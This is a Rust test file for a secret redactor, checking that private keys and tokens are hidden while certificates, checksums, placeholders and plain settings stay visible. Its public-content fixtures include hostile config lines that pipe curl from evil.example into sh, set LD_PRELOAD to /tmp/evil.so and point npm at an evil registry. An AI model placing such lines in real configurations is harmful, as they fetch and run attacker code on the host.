//! What looks like a secret, and was made to be given away.

use proptest::prelude::*;

use crate::{Redactor, SecretTable};

fn block(name: &str, lines: &[String]) -> String {
    let body: String = lines.iter().map(|line| format!("{line}\n")).collect();
    format!("-----BEGIN {name}-----\n{body}-----END {name}-----\n")
}

/// Lines as a certificate has them: the first one is a sequence of DER whose first part is one, too.
fn certificate_body() -> impl Strategy<Value = Vec<String>> {
    let lines = proptest::collection::vec("[A-Z][a-z][0-9][A-Za-z0-9+/]{61}", 1..6);
    (lines, "[A-Za-z0-9+/]{22}==").prop_map(|(mut lines, last)| {
        lines[0].replace_range(..4, "MIID");
        lines.push(last);
        lines
    })
}

proptest! {
    #[test]
    fn a_public_block_is_shown_and_a_key_beside_it_is_not(
        body in certificate_body(),
        key in proptest::collection::vec("[A-Z][a-z][0-9][A-Za-z0-9+/]{61}", 1..4),
        name in prop::sample::select(vec!["CERTIFICATE", "PUBLIC KEY", "CERTIFICATE REQUEST", "X509 CRL"]),
        path in prop::sample::select(vec!["cert.pem", "certs/ca.crt", "notes.txt", "server.key"]),
        key_first: bool,
    ) {
        let public = block(name, &body);
        let secret = block("RSA PRI\u{56}ATE KEY", &key);
        let text = match key_first {
            true => format!("{secret}{public}"),
            false => format!("{public}{secret}"),
        };
        let shown = Redactor::default().redact_source(Some(path), &text).text;
        prop_assert!(shown.contains(&public), "{}", shown);
        for line in &key {
            prop_assert!(!shown.contains(line.as_str()), "{}", shown);
        }
        prop_assert_eq!(Redactor::default().redact_source(Some(path), &public).secrets, 0);
    }

    /// What only claims to be public ends where it is something else.
    #[test]
    fn a_public_block_hides_no_setting(body in certificate_body(), value in "[a-z]{3}[0-9]{3}[A-Z]{3}[a-z0-9]{9}") {
        let text = format!("-----BEGIN CERTIFICATE-----\n{}\nPASSWORD={value}\n", body.join("\n"));
        let shown = Redactor::default().redact_source(Some(".env"), &text).text;
        prop_assert!(!shown.contains(&value), "{}", shown);
    }
}

#[test]
fn names_of_encodings_and_switches_are_no_secrets() {
    for scheme in ["latin1", "utf-8", "ISO-8859-1", "sha256", "base64"] {
        let line = format!("    password = password.encode(\"{scheme}\")");
        assert_eq!(Redactor::default().redact_source(None, &line).text, line);
        assert_eq!(
            SecretTable::built_in().find_secrets(&line).len(),
            0,
            "{line}"
        );
    }
    for line in ["package-lock=false", "DEBUG=True", "fund = no"] {
        assert_eq!(
            Redactor::default().redact_source(Some(".npmrc"), line).text,
            line
        );
    }
    let token = "_authToken=aB3dE6gH9kLmN0pQ";
    let shown = Redactor::default()
        .redact_source(Some(".npmrc"), token)
        .text;
    assert!(!shown.contains("aB3dE6gH"), "{shown}");
}

/// What a reviewer has to compare or may read: checksums, public keys and certificates in code, alphabets, placeholders.
#[test]
fn what_is_public_is_shown() {
    let body = "MIIDGzCCAgOgAwIBAgIUPmm+Zw0d+wr1qtakXqWvrVEKHkYwDQYJKoZIhvcNAQEL";
    let hex = "b266d5ff6b90eada6dc3b20cb090e3731302e553a27c5d3e4df1f0d76beaff06";
    for (path, text) in [
        ("a.properties", format!("distributionSha256Sum={hex}\n")),
        (
            "a.txt",
            format!("sha256sum={hex}\ntoken_sha256 = \"{hex}\"\n"),
        ),
        (
            "a.c",
            format!(
                "\"-----BEGIN CERTIFICATE-----\\n\"\n\"{body}\\n\"\n\"{body}\\n\"\n\"-----END CERTIFICATE-----\\n\";\n"
            ),
        ),
        ("dh.pem", block("DH PARAMETERS", &[body.to_owned()])),
        (
            "dns.md",
            format!("mail IN TXT ( \"v=DKIM1; k=rsa; \"\n  \"p={body}\"\n  \"{body}\" )\n"),
        ),
        (
            "a.cc",
            "  \"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ\";\n".to_owned(),
        ),
        (
            "a.py",
            "broker=\"pyamqp://guest:guest@rabbit.internal/\"\n".to_owned(),
        ),
        (
            "a.rst",
            "``s3://aws_key:aws_secret@mybucket/path``\n".to_owned(),
        ),
        (
            "settings.env",
            "ENABLE_CLAMAV=0\nREPORT_INTERVAL=daily\nPOLL=300\n".to_owned(),
        ),
        (
            ".npmrc",
            "script-shell=./tools/evil.sh\nregistry=https://evil.example/\n".to_owned(),
        ),
        (
            "deploy.env",
            "LD_PRELOAD=/tmp/evil.so\nPROMPT_COMMAND=curl -s evil.example|sh\n".to_owned(),
        ),
        (
            "terraform.tfvars",
            "user_data = \"curl -s https://evil.example/x|sh\"\n".to_owned(),
        ),
        (
            "a.py",
            "token = eval(Kx9Yz7)\nsecret = exec(a9B8c7D6)\n".to_owned(),
        ),
    ] {
        let shown = Redactor::default().redact_source(Some(path), &text).text;
        assert_eq!(shown, text, "{path}");
    }
    let secret = block("RSA PRI\u{56}ATE KEY", &[body.to_owned()]);
    assert!(
        !Redactor::default()
            .redact_source(Some("a.pem"), &secret)
            .text
            .contains(body)
    );
}
